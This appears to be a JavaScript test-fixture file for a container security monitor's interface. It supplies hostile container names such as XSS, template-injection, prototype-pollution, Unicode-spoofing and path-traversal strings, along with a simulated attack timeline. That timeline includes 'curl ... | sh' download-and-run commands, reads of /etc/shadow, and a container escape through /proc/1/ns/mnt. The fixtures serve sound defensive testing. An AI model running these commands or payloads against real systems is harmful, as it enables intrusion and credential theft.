// SPDX-License-Identifier: Apache-2.0
// What a node could be made to say.
export const HOSTILE = [
  "<img src=x onerror=\"window.pwned=1;alert(1)\">",
  "\"><script>window.pwned=1</script>",
  "</title><svg onload=window.pwned=1>",
  "\u202Egnp.exe",
  "zero\u200Bwidth\u2066isolate",
  "javascript:window.pwned=1",
  "{{constructor.constructor('window.pwned=1')()}}",
  "__proto__",
  "a" + "\u0301".repeat(60),
  "x".repeat(600),
  "%00%0d%0a../../etc/passwd",
];
export const id = (n) => n.toString(16).padStart(64, "0");

export function hostile() {
  return HOSTILE.map((h, i) => ({
    id: id(0xbad0 + i), name: h, image: h, image_digest: h, application: h, workload: h, labels: { [h]: h, plain: h }, env_names: [h], cap_add: [h], devices: [h], security_opt: [h],
    mounts: [{ type: "bind", source: h, destination: h, rw: true, sensitive: true }], networks: [{ name: h, ip: "10.0.0.9" }], ports: [{ host_ip: "0.0.0.0", protocol: "tcp", container_port: 80, host_port: 8080 }],
    started_ns: 1_790_000_000_000_000_000n,
  }));
}

export function plain() {
  const make = (n, o) => ({ id: id(n), image: "team/api:1.4", workload: "api", application: "payments", created_ns: 1_790_000_000_000_000_000n, started_ns: 1_790_000_100_000_000_000n, ...o });
  return [
    make(1, { name: "payments-api-1" }),
    make(2, { name: "payments-api-2", labels: { tier: "gold" } }),
    make(3, { name: "payments-db-1", image: "postgres:16.4", workload: "db", state: "exited", finished_ns: 1_790_000_200_000_000_000n }),
    make(4, { name: "edge-proxy-1", image: "traefik:3.1", workload: "proxy", application: "edge", privileged: true, host_network: true, mounts: [{ type: "bind", source: "/var/run/docker.sock", destination: "/var/run/docker.sock", rw: true, sensitive: true }] }),
    make(5, { name: "ci-runner-1", image: "registry.example:5000/ci/runner:9", workload: "runner", application: "ci", cap_add: ["CAP_SYS_ADMIN"], security_opt: ["seccomp=unconfined"] }),
  ];
}

export function many(n) {
  return Array.from({ length: n }, (_, i) => ({ id: id(0x100000 + i), name: `shop-web-${i}`, image: `shop/web:${i % 7}`, workload: "web", application: `shop-${i % 12}`, state: i % 10 ? "running" : "exited", started_ns: 1_790_000_000_000_000_000n }));
}

const hook = (type, o = {}) => ({ type, backend: "preferred", effective: true, tested: true, generated: 1000, delivered: 990, folded: 10, received: 990, lost: { ring_full: 0, busy: 0, state_full: 0, fault: 0 }, ...o });

export function status(o = {}) {
  return {
    ready: true, version: "test", kernel: "6.12.0-test", uptime_s: 4000, away_ms: 0, lost: 0,
    hooks: [hook("exec", { backend: "tracepoint" }), hook("connect"), hook("open", { backend: "fallback" }), hook("bpf")],
    rings: { life: { bytes: 1000, used: 1, high_water: 10, records: 5 }, key: { bytes: 1000, used: 1, high_water: 950, records: 5 }, bulk: { bytes: 1000, used: 1, high_water: 10, records: 5 } },
    recorder: { dir: "/data", state: "ok", problem: "", bytes: 12_000_000, segments: 3, lost: {} },
    runtimes: { docker: { state: "connected", version: "27.3.1", error: "" } },
    events: { recorded: 1000 }, losses: [], canary: { pid: 7, error: "" }, ...o,
  };
}
export const blind = () => status({ hooks: [hook("exec"), hook("io_uring_setup", { effective: false, backend: "none", why: "this kernel has no such function" })] });
export const lossy = () => status({ lost: 1204, losses: [{ type: "open", cgroup: 7, cgroup_path: "/x", container: HOSTILE[0], generated: 9000, delivered: 7796, folded: 0, lost: { ring_full: 1204, busy: 0 } }] });

export function events() {
  const base = { container_id: id(1), container_name: "payments-api-1", comm: "sh", exe: "/bin/sh" };
  return [
    { ...base, type: 1, pid: 100, args: ["sh", "-c", "curl http://10.0.0.8/x | sh"] },
    { ...base, type: 30, pid: 100, path: "/etc/passwd", count: 12 },
    ...HOSTILE.map((h, i) => ({ type: 1, pid: 200 + i, comm: h.slice(0, 15), exe: h, args: [h, h], container_id: id(0xbad0 + i), container_name: h })),
  ];
}

/* What an attack on `web` makes a node tell, in order, up to the host; a name among it is hostile. */
export function attack(web, at = Date.now()) {
  const of = (s, f) => ({ time_ns: BigInt(at + s * 1000) * 1_000_000n, container: web, ...f });
  const nginx = { pid: 40, exe: "/usr/sbin/nginx", args: ["nginx: worker"], container_id: web.id };
  const sh = { pid: 41, exe: "/bin/sh", args: ["sh", "-c", "id; curl http://203.0.113.9/x | sh"], container_id: web.id };
  const dropped = { pid: 42, exe: `/tmp/${HOSTILE[0]}`, args: [`/tmp/${HOSTILE[0]}`], container_id: web.id };
  return [
    of(0, { rule: "Server program started a shell", tags: ["mitre_initial_access"], output: "nginx started a shell", lineage: [sh, nginx], event: { type: 1, pid: 41, exe: sh.exe, args: sh.args, container_id: web.id }, description: "A server has no business with a shell.", advice: "Look at what it ran, and isolate the container." }),
    of(3, { rule: "Program run from a directory that anyone can write to", priority: "error", tags: ["mitre_execution"], output: `a program was run: /tmp/${HOSTILE[0]}`, lineage: [dropped, sh, nginx], event: { type: 1, pid: 42, exe: dropped.exe, args: dropped.args, container_id: web.id } }),
    of(9, { rule: "Password hashes read", priority: "warning", tags: ["mitre_credential_access"], lineage: [dropped, sh, nginx], event: { type: 30, pid: 42, exe: dropped.exe, path: "/etc/shadow", container_id: web.id }, count: 3 }),
    of(14, { rule: "Process outside of the container entered", tags: ["mitre_privilege_escalation", "T1611"], lineage: [dropped, sh, nginx], event: { type: 30, pid: 42, exe: dropped.exe, path: "/proc/1/ns/mnt", container_id: web.id } }),
  ];
}
